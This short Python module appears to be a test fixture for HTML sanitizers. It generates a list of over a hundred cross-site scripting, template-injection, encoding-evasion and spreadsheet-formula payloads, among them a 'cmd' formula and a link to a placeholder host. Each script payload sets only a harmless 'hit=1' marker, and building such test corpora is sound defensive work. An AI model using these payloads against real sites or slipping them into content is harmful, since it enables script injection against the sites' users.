# SPDX-License-Identifier: Apache-2.0
"""A hundred texts that run a script where a page takes text for markup, for an address, for a style or for a template. What runs sets hit."""

_RUN = "hit=1"
_EVENTS = ("onload", "onerror", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerover", "onbegin", "onhashchange")
_TAGS = ("svg", "body", "video", "audio", "iframe", "object", "embed", "input autofocus", "details open", "marquee")
_FRAMES = ("{}", '"{}', "'{}", "`{}", "-->{}", "]]>{}", "</title>{}", "</textarea>{}", "</script>{}", "</style>{}", "</noscript>{}", "<!--{}")
_ADDRESSES = ("javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", " javascript:{}", "javascript&colon;{}", "vbscript:{}", "data:text/html,<script>{}</script>",
              "data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==", "//x.test/", "blob:{}", "view-source:javascript:{}", "sip:javascript:{}")
_TEMPLATES = ("${{{}}}", "{{{{{}}}}}", "<%={}%>", "#{{{}}}", "[[{}]]", "{{%{}%}}", "@({})", "'-({})-'", "\\';{}//", "</x>{{{{constructor.constructor('{}')()}}}}")
_SPELLINGS = ("<ſcript>{}</script>", "&lt;script&gt;{}&lt;/script&gt;", "%3Cscript%3E{}%3C/script%3E", "\\u003cscript>{}", "\\x3cscript\\x3e{}", "&#60;script&#62;{}", "＜script＞{}＜/script＞",
              "<scr<script>ipt>{}</scr</script>ipt>", "<SCRIPT/x>{}</SCRIPT>", "<script\n>{}</script\n>", "\u202e<script>{}", "\u200b<script>{}", "<script src=//x.test>", "<script type=module>{}</script>")
_OTHERS = ("<style>*{{x:expression({})}}</style>", "<link rel=stylesheet href=javascript:{}>", "<base href=//x.test/>", "<form action=javascript:{}><input>", "<a href=javascript:{}>x</a>",
           "<math><mi//xlink:href=javascript:{}>", "<svg><animate onbegin={} attributeName=x>", "<svg><use href=data:image/svg+xml,{}>", "<iframe srcdoc='<script>top.{}</script>'>", "<meta http-equiv=refresh content=0;javascript:{}>",
           "<template><script>{}</script>", "<math><style><img src onerror={}>", "<table background=javascript:{}>", "=cmd|' /C calc'!A0", "+HYPERLINK(\"//x.test\")", "@SUM({})", "\u202egnp.exe", "__proto__", "constructor",
           "[object Object]")


def _all():
    found = [f"<img src=x {event}={_RUN}>" for event in _EVENTS] + [f"<{tag} onload={_RUN} onfocus={_RUN} ontoggle={_RUN}>" for tag in _TAGS]
    found += [form.format(f"<script>{_RUN}</script>") for form in _FRAMES]
    found += [form.format(_RUN) for form in (*_ADDRESSES, *_TEMPLATES, *_SPELLINGS, *_OTHERS)]
    found += ['"><img src=x onerror=hit=1><script>hit=1</script>', "' onfocus=hit=1 autofocus x='", '" onmouseover="hit=1', "x onload=hit=1", "\\\"><svg onload=hit=1>", "</h1><svg onload=hit=1>", "</option></select><svg onload=hit=1>",
              "\ufeff<svg onload=hit=1>", "<svg onload\x0c=hit=1>", "<svg/onload=hit=1//", "<svg onload=&#104;it=1>", "<x contenteditable onblur=hit=1>x"]
    return tuple(dict.fromkeys(found))


PAYLOADS = _all()
assert len(PAYLOADS) >= 100
